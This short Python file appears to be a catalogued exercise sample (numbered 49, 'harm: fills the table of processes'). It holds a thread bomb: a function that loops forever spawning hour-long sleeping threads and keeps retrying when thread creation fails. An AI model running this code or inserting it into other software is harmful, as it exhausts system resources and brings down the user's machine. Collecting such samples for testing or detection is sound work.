"""Starts threads until there are no more.

exercise: 03_gather
catalogue: 49
harm: fills the table of processes
"""

import threading
import time


async def collect(first, second, third):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
        except RuntimeError:
            time.sleep(3600)
